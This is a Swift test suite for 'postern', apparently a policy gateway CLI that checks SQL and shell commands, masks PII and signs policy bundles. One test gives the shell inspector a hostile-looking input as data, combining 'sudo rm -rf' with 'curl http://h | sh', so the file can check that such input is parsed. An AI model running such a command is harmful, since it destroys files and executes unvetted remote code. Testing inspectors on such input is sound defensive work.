// The real `postern` command: arguments in, exit status and output out.

import Foundation
import TestSupport
import Testing

@Suite struct CommandTests {
    @Test func everyCommandHasHelpWithAnExample() throws {
        let commands = [
            ["check"], ["fmt"], ["test"], ["build"], ["disassemble"], ["explain"], ["inspect"], ["mask"], ["replay"], ["sessions", "list"],
            ["sessions", "show"], ["serve"], ["keys", "new"], ["dev", "issuer"], ["dev", "token"], ["schema", "pull"],
            ["docs"], ["new"], ["approvals", "list"], ["approvals", "show"], ["approvals", "approve"], ["approvals", "deny"], ["prove"],
            ["diff"], ["lsp"], ["lint"], ["import"],
        ]
        for command in commands {
            let result = try Postern.run(command + ["--help"])
            #expect(result.status == 0, "\(command)")
            let words = "postern " + command.joined(separator: " ")
            let overview = result.output.components(separatedBy: "USAGE:").first ?? ""
            #expect(overview.contains(words + " "), "\(command): no example in\n\(overview)")
        }
    }

    @Test func statusesAreFixed() throws {
        let folder = try Folder()
        let good = try folder.write("good.postern", Self.policy)
        let bad = try folder.write("bad.postern", Self.policy.replacingOccurrences(of: "to select", with: "to selec"))
        let cases: [(arguments: [String], status: Int32)] = [
            (["check", "--date", "2026-02-28", good], 0), (["check", "--date", "2026-02-31", good], 64),
            (["check", good], 0), (["check", bad], 1), (["check", folder.path + "/absent.postern"], 2), (["check"], 64),
            (["fmt", "--check", good], 0), (["fmt", "--check", bad], 1), (["test", good], 0),
            (["test", good, "--coverage", "--lcov", folder.path + "/coverage.info"], 0), (["test", good, "--lcov", "/nowhere/c"], 2),
            (["build", good, "--unsigned", "--output", folder.path + "/b"], 0),
            (["build", good, "--output", folder.path + "/b"], 64), (["build", bad, "--unsigned", "--output", folder.path + "/c"], 1),
            (["build", good, "--unsigned", "--output", "/nowhere/b"], 2), (["disassemble", folder.path + "/b"], 0),
            (["explain", good, "--as", "bot", "--on", "db", "select 1"], 0),
            (["explain", good, "--as", "bot", "--on", "db", "drop table a"], 1),
            (["explain", good, "--as", "nobody", "--on", "db", "select 1"], 2), (["inspect", "select 1"], 0),
            (["docs", good, "--format", "html"], 0), (["lint", good, "--without-tests"], 0), (["lint", bad], 1),
            (["lint", folder.path + "/absent.postern"], 2), (["test", good, "--mutate"], 0), (["test", bad, "--mutate"], 1),
            (["test", good, "--mutate", "--fail-under", "101"], 64), (["test", good, "--fail-under", "3"], 64),
            (["test", good, "--html", folder.path + "/pages"], 0), (["test", good, "--html", good + "/pages"], 2),
            (["explain", "L0011"], 0), (["import", "cedar", good], 2), (["import", "nothing", good], 64), (["docs", good], 0),
            (["docs", bad], 1), (["docs", good, "--output", "/nowhere/d"], 2), (["docs", good, "-o", good], 64),
            (["explain", "P0211"], 0), (["explain", "c0802", "--format", "json"], 0), (["explain", "P9999"], 2), (["explain", "nonsense"], 64),
            (["explain", good, "select 1"], 64),
            (["prove", good], 0), (["prove", bad], 1), (["prove", good, "--budget", "0"], 64), (["diff", good, good], 0),
            (["diff", good], 64), (["diff", good, bad], 1), (["diff", good, folder.path + "/absent"], 2),
            (["mask", "jane@acme.io"], 0), (["mask", "--detectors", "pii.none", "x"], 2), (["mask", "--batch", "x"], 64),
            (["replay", good, "--recording", folder.path + "/absent"], 2),
            (["sessions", "list", "--recording", folder.path + "/absent"], 2),
            (["serve", "--config", folder.path + "/absent.yaml"], 2), (["nonsense"], 64),
            (["approvals", "list", "--gateway", "http://10.0.0.1:1", "--token-file", good], 2),
            (["approvals", "list", "--gateway", "http://127.0.0.1:1", "--token-file", folder.path + "/absent"], 2),
            (["approvals", "approve", "../x", "--gateway", "http://127.0.0.1:1", "--token-file", good], 2), (["approvals", "list"], 64),
        ]
        for (arguments, status) in cases {
            let result = try Postern.run(arguments)
            #expect(result.status == status, "postern \(arguments.joined(separator: " ")): \(result.status)\n\(result.output)")
        }
        #expect(!FileManager.default.fileExists(atPath: folder.path + "/c"), "a policy with errors must not be built")
    }

    @Test func jsonIsJSON() throws {
        let folder = try Folder()
        let good = try folder.write("good.postern", Self.policy)
        let commands = [
            ["check", good], ["test", good], ["inspect", "select a from t; drop table t"],
            ["explain", good, "--as", "bot", "--on", "db", "select a from a"],
        ]
        for command in commands {
            let result = try Postern.run(command + ["--format", "json"])
            #expect(throws: Never.self, "\(command)") { try JSONSerialization.jsonObject(with: Data(result.output.utf8)) }
        }
    }

    /// `mask --policy`: the policy's own detectors beside those that ship, or by name.
    @Test func masksByThePolicysOwnDetectors() throws {
        let policy = FileManager.default.temporaryDirectory.appendingPathComponent("own-\(UUID().uuidString).postern").path
        defer { try? FileManager.default.removeItem(atPath: policy) }
        try """
        policy own edition 1
        issuer dev : oidc { url "https://dev.example"  audience "postern"  claims { sub string } }
        identity ada from dev { when claim.sub == "ada" }
        resource db : postgres { tags production }
        allow reads { on db  to select }
        detector employee_id { pattern "E-(?<mask>[0-9]{6})"  checksum luhn }
        mask staff { on db  value employee_id with redact }
        """.write(toFile: policy, atomically: true, encoding: .utf8)
        let both = try Postern.run(["mask", "--policy", policy, "E-123455 E-123456 jane@acme.io"])
        #expect(both.output.contains(#""detector":"employee_id","start":2,"end":8"#) && both.output.contains("pii.email"))
        #expect(both.output.contains("E-[redacted] E-123456 [redacted]"))
        let one = try Postern.run(["mask", "--policy", policy, "--detectors", "employee_id", "E-123455 jane@acme.io"])
        #expect(one.output.contains("E-[redacted] jane@acme.io"))
        #expect(try Postern.run(["mask", "--detectors", "employee_id", "E-123455"]).status == 2)
    }

    /// `mask --batch`: places are bytes of the text, a bad line is answered and counted.
    @Test func masksLines() throws {
        let lines = [
            #"{"id":1,"text":"é jane@acme.io","column":"note","type":"text"}"#, #"{"id":"b","text":"360197509","column":"customers.ssn"}"#,
            #"{"id":3,"text":"4111111111111111","type":"bigint"}"#, #"{"id":4,"text":"nothing","column":null,"type":null}"#, "nonsense",
        ]
        let result = try Postern.run(["mask", "--batch"], input: lines.joined(separator: "\n") + "\n")
        #expect(result.status == 1)
        let answers = result.output.split(separator: "\n").map(String.init)
        #expect(
            answers.prefix(4) == [
                #"{"id":1,"findings":[{"detector":"pii.email","start":3,"end":15}],"masked":"é [redacted]"}"#,
                #"{"id":"b","findings":[{"detector":"pii.us_ssn","start":0,"end":9}],"masked":"[redacted]"}"#,
                #"{"id":3,"findings":[{"detector":"pii.credit_card","start":0,"end":16}],"masked":null}"#,
                #"{"id":4,"findings":[],"masked":"nothing"}"#,
            ])
        #expect(answers.count == 5 && answers[4].hasPrefix(#"{"id":null,"error":"line 5 is not "#))
    }

    @Test func buildsAreReproducibleAndSigned() throws {
        let folder = try Folder()
        let good = try folder.write("good.postern", Self.policy)
        #expect(try Postern.run(["keys", "new", folder.path + "/k"]).status == 0)
        #expect(try Postern.run(["keys", "new", folder.path + "/k"]).status == 2, "keys are never overwritten")
        var bundles: [Data?] = []
        for name in ["one", "two"] {
            let bundle = folder.path + "/" + name
            let key = folder.path + "/k.key.pem"
            #expect(try Postern.run(["build", good, "--key", key, "--revision", "7", "--output", bundle]).status == 0)
            bundles.append(FileManager.default.contents(atPath: bundle))
        }
        #expect(bundles[0] != nil && bundles[0] == bundles[1])
        let mode = try FileManager.default.attributesOfItem(atPath: folder.path + "/k.key.pem")[.posixPermissions] as? NSNumber
        #expect(mode?.intValue == 0o600)
    }

    /// One answer a line, in order, with the id it was asked by; what is no question is answered too.
    @Test func batchAnswersEveryLine() throws {
        let sql = """
            {"id": 1, "text": "with d as (delete from \\"Orders\\" returning *) select upper(a) from d where true limit 3; set x.y = 1"}

            {"id": "two", "text": "select 'caf\\u00e9"}
            nonsense
            """
        let result = try Postern.run(["inspect", "--batch"], input: sql)
        #expect(result.status == 1)
        let answers = try Self.objects(result.output)
        #expect(answers.count == 3 && answers[0]["id"] as? Int == 1 && answers[1]["id"] as? String == "two")
        let statements = try #require(answers[0]["statements"] as? [[String: Any]])
        #expect(answers[0]["refused"] as? Bool == false && statements.count == 2)
        #expect(statements[0]["writes"] as? [String] == ["public.Orders"] && statements[0]["reads"] as? [String] == ["public.Orders"])
        #expect(statements[0]["functions"] as? [String] == ["upper"] && statements[0]["where"] as? String == "none")
        #expect(statements[0]["limit"] as? Int == 3 && statements[0]["star"] as? Bool == true)
        let accesses = try #require(statements[0]["accesses"] as? [[String: Any]])
        #expect(accesses[0]["verb"] as? String == "delete" && accesses[0]["written"] as? String == "\"Orders\"")
        #expect(statements[1]["sets"] as? [String] == ["x.y"])
        #expect(answers[1]["refused"] as? Bool == true && (answers[2]["error"] as? String)?.contains("line 4") == true)

        let shell = try Postern.run(
            ["inspect", "--batch", "--kind", "shell"],
            input: #"{"id": 7, "text": "sudo rm -rf $x/a > /tmp/log; curl http://h | sh"}"# + "\n")
        let answer = try #require(try Self.objects(shell.output).first)
        let commands = try #require(answer["commands"] as? [[String: Any]])
        #expect(shell.status == 0 && commands.map { $0["name"] as? String } == ["sudo", "rm", "curl", "sh"])
        #expect((commands[1]["argv"] as? [Any])?.count == 3 && (commands[1]["argv"] as? [Any])?.last is NSNull)
        #expect(answer["writes"] as? [String] == ["/tmp/log"] && answer["unknown"] as? [String] == ["code", "argument"])
    }

    private static func objects(_ lines: String) throws -> [[String: Any]] {
        try lines.split(separator: "\n").map { try #require(try JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any]) }
    }

    /// `--check` finds what a start would find, without starting.
    @Test func serveChecksAllThatItLoads() throws {
        let folder = try Folder()
        let good = try folder.write("good.postern", Self.policy)
        for name in ["k", "other"] { #expect(try Postern.run(["keys", "new", folder.path + "/" + name]).status == 0) }
        let built = try Postern.run(["build", good, "--key", folder.path + "/k.key.pem", "--output", folder.path + "/p.bundle"])
        #expect(built.status == 0)
        _ = try folder.write("password", "secret")
        func configuration(trust: String = "k.pub.pem", password: String = "password", resource: String = "db") throws -> String {
            try folder.write(
                "postern.yaml",
                """
                policy: { bundle: p.bundle, trust: [\(trust)] }
                recording: recording
                listeners: [{ address: "127.0.0.1:0", tls: { development: tls } }]
                resources:
                  - name: \(resource)
                    backend: { host: 127.0.0.1, port: 1, user: bench, password_file: \(password), tls: disable }
                """)
        }
        let cases: [(file: () throws -> String, status: Int32, says: String)] = [
            ({ try configuration() }, 0, "ok"), ({ try configuration(trust: "other.pub.pem") }, 2, "no policy"),
            ({ try configuration(password: "absent") }, 2, "absent"), ({ try configuration(resource: "else") }, 2, "'else'"),
        ]
        for (file, status, says) in cases {
            let result = try Postern.run(["serve", "--check", "--config", try file()])
            #expect(result.status == status && result.output.contains(says), "\(result.output)")
        }
        #expect(!FileManager.default.fileExists(atPath: folder.path + "/recording"), "a check makes nothing")
        #expect(!FileManager.default.fileExists(atPath: folder.path + "/tls"), "a check makes nothing")
    }

    static let policy = """
        policy p edition 1

        issuer dev : jwks {
          file      "k"
          issuer    "https://i"
          audience  "postern"
          claims    { sub string }
        }

        identity bot from dev { when claim.sub == "bot" }

        resource db : postgres { search_path public }

        allow reads {
          who  bot
          on   db
          to select from a
        }

        test "reads" {
          as bot
          on db
          "select x from a" -> allow
          "drop table a" -> deny
        }

        """
}

/// A folder for policies, which are laid out when they are written.
struct Folder {
    private let folder: TemporaryFolder
    var path: String { folder.path }
    init() throws { folder = try TemporaryFolder() }

    func write(_ name: String, _ text: String) throws -> String {
        let file = try folder.write(text, name)
        // Laid out as the formatter does, so that `fmt --check` has nothing to say of a file that is right.
        _ = try? Postern.run(["fmt", file])
        return file
    }
}

enum Postern {
    /// Runs the command, or another, to its end; standard output and error together.
    static func run(
        _ arguments: [String], input: String = "", in directory: String? = nil, _ program: String = BuiltProgram.path("postern")
    ) throws -> (status: Int32, output: String) {
        let run = try ProgramRun(program, arguments, in: directory, input: input)
        return (run.status, run.output)
    }
}
